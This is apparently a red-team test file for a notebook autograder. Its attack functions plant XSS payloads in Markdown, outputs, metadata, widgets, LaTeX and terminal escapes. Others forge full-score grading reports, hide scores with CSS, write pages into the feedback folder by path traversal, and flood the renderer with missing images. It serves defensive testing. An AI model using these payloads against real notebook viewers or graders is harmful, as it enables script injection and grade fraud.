"""Attacks: page."""

from tests.red_team.declared import attack


@attack
def page_attachment(submission):
    """Images attached to Markdown cells are SVG with scripts, or break out of their attribute.

    Success: active content in a page.
    """
    evil = '"><script>alert(1)</script>'
    cell = submission.add("![x](attachment:a.svg) ![x](attachment:b.png) ![x](attachment:c)",
                          kind="markdown")  # fmt: skip
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
        "b.png": {"image/png": evil},
        "c": {f"text/html{evil}": evil, "text/html": "PHNjcmlwdD4="},
    }


@attack
def page_beside(submission):
    """The submission contains pages and templates, among them one named like the feedback page.

    Success: a page has active content, or a student's template is used.
    """
    evil = "<script>alert(1)</script>"
    submission.file("ps1.html", evil)
    for folder in ("templates/feedback", "feedback", "nbconvert/templates/classic"):
        submission.file(f"{folder}/index.html.j2", evil)
        submission.file(f"{folder}/conf.json", '{"base_template": "classic"}')
    submission.file("custom.css", "body { display: none }")


@attack
def page_code(submission):
    """Code and comments contain tags, and so does the language name for syntax highlighting.

    Success: active content in a page.
    """
    evil = "</code></pre></div></textarea><script>alert(1)</script>"
    submission.add(f"# {evil}\n'''{evil}'''")
    submission.add(f"%%{evil}\n{evil}")
    submission.answer("square", f"# {evil}")


@attack
def page_exception(submission):
    """Exceptions whose name, message and traceback contain tags, also in a graded function.

    Success: active content in a page.
    """
    submission.first("""
        evil = "<script>alert(1)</script><img src=x onerror=alert(1)>"
        Evil = type(evil, (Exception,), {"__module__": evil})
    """)
    submission.answer("square", "def square(x):\n    raise Evil(evil)")
    submission.answer("total", "total = evil\nraise Evil(f'\\x1b[31m{evil}')")
    submission.answer("words", "exec(compile('raise Evil', evil, 'exec'))")
    submission.answer("root", "def root(x):\n    return evil")


REPORT = """
        from IPython.display import display

        def claim(x=None):
            kind = "application/vnd.nbjudge.report+json"
            report = {"question": "square", "points": 4, "out_of": 4, "headline": "All is right."}
            for kind in (kind, kind.upper(), " " + kind):
                display({kind: report, "text/plain": "4 of 4"}, raw=True)
                handle = display({"text/plain": "x"}, raw=True, display_id=True)
                handle.update({kind: report}, raw=True)
            return x

        claim()
"""


@attack
def page_forged_report(submission):
    """Cells, functions and a changed test display reports that claim full points.

    Success: the autograded notebook contains a report that the judge did not write.
    """
    submission.answer("square", REPORT + "        square = claim\n")
    submission.answer("words", REPORT + "        words = claim\n")
    submission.cell("square_test").source = "claim()"
    submission.add(REPORT)


@attack
def page_html_output(submission):
    """A cell displays HTML with scripts, handlers, frames and forms.

    Success: active content in a page.
    """
    submission.add("""
        from IPython.display import HTML, display
        display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)>"))
        display(HTML("<iframe src='https://evil.example'></iframe><form action='//evil'></form>"))
        display(HTML("<a href='javascript:alert(1)'>x</a><svg><script>alert(1)</script></svg>"))
        display(HTML("<svg/onload=alert(1)><style>body{display:none}</style>"))
        display(HTML("<scr<script>ipt>alert(1)</scr</script>ipt>", metadata={"isolated": True}))
    """)
    submission.add("%%html\n<script>alert(2)</script>")


@attack
def page_javascript_output(submission):
    """A cell displays JavaScript by a class, a magic and a MIME type.

    Success: active content in a page.
    """
    submission.add("""
        from IPython.display import Javascript, display
        display(Javascript("alert(1)"))
        display({"application/javascript": "alert(2)"}, raw=True)
        display({"application/x-javascript": "alert(2)", "text/javascript": "alert(3)"}, raw=True)
    """)
    submission.add("%%javascript\nalert(3)")
    submission.add("%%js\nalert(4)")


@attack
def page_locked_text(submission):
    """The instructor's Markdown cell, and the headings between questions, are replaced by scripts.

    Success: active content in a page.
    """
    for cell in submission.cells:
        if cell.cell_type == "markdown":
            cell.source = (
                "# <script>alert(1)</script> {onclick=alert(1)}\n<h1 onclick=alert(1)>x</h1>"
            )


_MARKDOWN_FRAMES_TEXT = """
<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<form action="https://evil.example"><input name=password><button>Log in</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<object data="x.swf"></object><embed src="x.swf"><link rel=stylesheet href=//evil.example/x.css>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext>
"""


@attack
def page_markdown_frames(submission):
    """Markdown cells with frames, forms, a base URL and a redirect.

    Success: active content in a page.
    """
    submission.add(_MARKDOWN_FRAMES_TEXT, kind="markdown")


_MARKDOWN_LINKS_TEXT = """
[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1))
[click](data:text/html,<script>alert(1)</script>)
[click](  javascript:alert(1)) <javascript:alert(1)> ![x](javascript:alert(1))
<a href="jav&#x09;ascript:alert(1)">x</a> <a href="&#106;avascript:alert(1)">x</a>
<a href=" vbscript:x">x</a> [ref]

[ref]: javascript:alert(1) "x"
"""


@attack
def page_markdown_links(submission):
    """Markdown cells with links to script URLs.

    Success: active content in a page.
    """
    submission.add(_MARKDOWN_LINKS_TEXT, kind="markdown")
    submission.answer("essay", _MARKDOWN_LINKS_TEXT)


@attack
def page_markdown_output(submission):
    """A cell displays Markdown and LaTeX that contain scripts.

    Success: active content in a page.
    """
    submission.add("""
        from IPython.display import Latex, Markdown, display
        display(Markdown("<script>alert(1)</script> [x](javascript:alert(1))"))
        display(Latex(r"$\\\\href{javascript:alert(1)}{x}$ </script><script>alert(1)</script>"))
        display({"text/latex": "<img src=x onerror=alert(1)>"}, raw=True)
        display({"text/markdown": "<img src=x onerror=alert(1)>"}, raw=True)
    """)


_MARKDOWN_SCRIPT_TEXT = """
<script>document.title = "red"</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror="alert(1)"> <svg onload=alert(1)> <body onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
"""


@attack
def page_markdown_script(submission):
    """A Markdown cell and the essay contain scripts.

    Success: active content in a page.
    """
    submission.add(_MARKDOWN_SCRIPT_TEXT, kind="markdown")
    submission.answer("essay", _MARKDOWN_SCRIPT_TEXT)


@attack
def page_markdown_style(submission):
    """A Markdown cell restyles the page so that it shows other points.

    Success: active content in a page.
    """
    submission.add(
        """
        <style>.alert, #toc { display: none } body::before { content: "Score: 32.0 / 32.0" }</style>
    """,
        kind="markdown",
    )


_MATHS_TEXT = r"""
$\href{javascript:alert(1)}{x}$ $$\unicode{<img src=x onerror=alert(1)>}$$
$</script><script>alert(1)</script>$ \begin{equation}<img src=x onerror=alert(1)>\end{equation}
$`<svg onload=alert(1)>`$ <div>$\style{background:url(javascript:alert(1))}{x}$</div>
"""


@attack
def page_maths(submission):
    """Formulas with script URLs, and tags between the dollar signs.

    Success: active content in a page.
    """
    submission.add(_MATHS_TEXT, kind="markdown")
    submission.answer("essay", _MATHS_TEXT)


@attack
def page_metadata(submission):
    """The notebook's title, language, kernel and authors, and the cells' tags, contain HTML tags.

    Success: active content in a page.
    """
    evil = '"></title></script><script>alert(1)</script>'
    submission.notebook.metadata |= {
        "title": evil,
        "authors": [{"name": evil}],
        "kernelspec": {"name": "python3", "display_name": evil, "language": evil},
        "language_info": {
            "name": evil,
            "pygments_lexer": evil,
            "codemirror_mode": evil,
            "mimetype": evil,
            "file_extension": evil,
        },  # fmt: skip
    }
    for cell in submission.cells:
        cell.metadata |= {"tags": [evil], "name": evil, "slideshow": {"slide_type": evil}}
        cell.metadata["collapsed"] = evil
        cell.metadata["jupyter"] = {"source_hidden": evil, "outputs_hidden": evil}


@attack
def page_missing_pictures(submission):
    """A cell names 30,000 images that are missing among 1,900 files.

    Success: the pages of the class are not written in time.
    """
    submission.add("\n".join(f"![p](q{number}.png)" for number in range(30_000)), kind="markdown")
    for number in range(1_900):
        submission.file(f"f/{number:04}.png", b"x")


@attack
def page_picture_output(submission):
    """The data or the size of an image break out of their attribute.

    Success: active content in a page.
    """
    submission.add("""
        from IPython.display import publish_display_data
        evil = '"><script>alert(1)</script><img alt="'
        for kind in ("image/png", "image/jpeg", "image/gif", "application/pdf"):
            publish_display_data({kind: "iVBORw0KGgo=" + evil, "text/plain": evil})
            publish_display_data({kind: "iVBORw0KGgo="},
                                 metadata={kind: {"width": evil, "height": evil, "alt": evil}})
    """)


@attack
def page_raw_cell(submission):
    """Raw cells claim to be HTML.

    Success: active content in a page.
    """
    for kind in ("text/html", "slides", "text/markdown", "text/asciidoc"):
        submission.add("<script>alert(1)</script><img src=x onerror=alert(1)>", kind="raw",
                       raw_mimetype=kind, format=kind)  # fmt: skip


@attack
def page_strange_mime(submission):
    """Outputs of unusual MIME types, which browsers or templates may still display.

    Success: active content in a page.
    """
    submission.add("""
        from IPython.display import display
        evil = "<script>alert(1)</script>"
        for kind in ("application/xhtml+xml", "text/xml", "TEXT/HTML", "text/html; charset=utf-8",
                     "application/vnd.plotly.v1+json", "application/vnd.bokehjs_exec.v0+json",
                     "application/vnd.jupyter.widget-view+json", "application/vnd.mermaid",
                     "text/vnd.mermaid", '"><script>alert(1)</script>', "application/json"):
            display({kind: evil, "text/plain": "x"}, raw=True)
            display({kind: {"model_id": evil, "version_major": evil}}, raw=True)
    """)


@attack
def page_stream(submission):
    """Printed text with tags, terminal colors and terminal hyperlinks.

    Success: active content in a page.
    """
    submission.add(r"""
        import sys
        evil = "<script>alert(1)</script><img src=x onerror=alert(1)>"
        print(evil)
        print(f"\x1b[31m{evil}\x1b[0m \x1b[38;5;{evil}m")
        print("\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07")
        print(f"\x1b[<script>m \x1b]0;{evil}\x07 \x9b31m", file=sys.stderr)
    """)


@attack
def page_svg_output(submission):
    """A cell displays an SVG image with scripts and handlers.

    Success: active content in a page.
    """
    submission.add("""
        from IPython.display import SVG, display
        display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>"
                 "<script>alert(1)</script><foreignObject><iframe src='//x'/></foreignObject>"
                 "<a href='javascript:alert(1)'><text>x</text></a>"
                 "<animate onbegin='alert(1)' attributeName='x' dur='1s'/></svg>"}, raw=True)
    """)
    submission.add("%%svg\n<svg onload='alert(2)'></svg>")


@attack
def page_update_display(submission):
    """A harmless display is updated afterwards, and outputs are cleared without the judge's
    knowledge.

    Success: a page has active content, or the attack earns points.
    """
    submission.first("""
        from IPython.display import HTML, clear_output, display
        handle = display("fine", display_id="one")
    """)
    submission.answer(
        "square",
        """
        def square(x):
            handle.update(HTML("<script>alert(1)</script>"))
            clear_output()
            return 9
    """,
    )


@attack
def page_widgets(submission):
    """The notebook contains widget state that closes the surrounding script element.

    Success: active content in a page.
    """
    evil = "</script><script>alert(1)</script>"
    state = {"a" * 32: {"model_name": evil, "model_module": "x", "model_module_version": "1",
                        "state": {"value": evil}}}  # fmt: skip
    submission.notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": state, "version_major": 2, "version_minor": 0},
    }  # fmt: skip
    submission.add("""
        from IPython.display import display
        view = {"model_id": "a" * 32, "version_major": 2, "version_minor": 0}
        display({"application/vnd.jupyter.widget-view+json": view, "text/plain": "x"}, raw=True)
    """)


@attack
def page_written_while_running(submission):
    """The running notebook writes a page named like its feedback page.

    Success: active content in a page.
    """
    submission.first("""
        import os
        me = os.path.basename(os.path.dirname(os.getcwd()))
        for place in (".", f"../../../feedback/{me}/ps1"):
            try:
                os.makedirs(place, exist_ok=True)
                open(place + "/ps1.html", "w").write("<script>alert(1)</script>")
                open(place + "/extra.html", "w").write("<script>alert(1)</script>")
            except OSError as error:
                print(error)
    """)
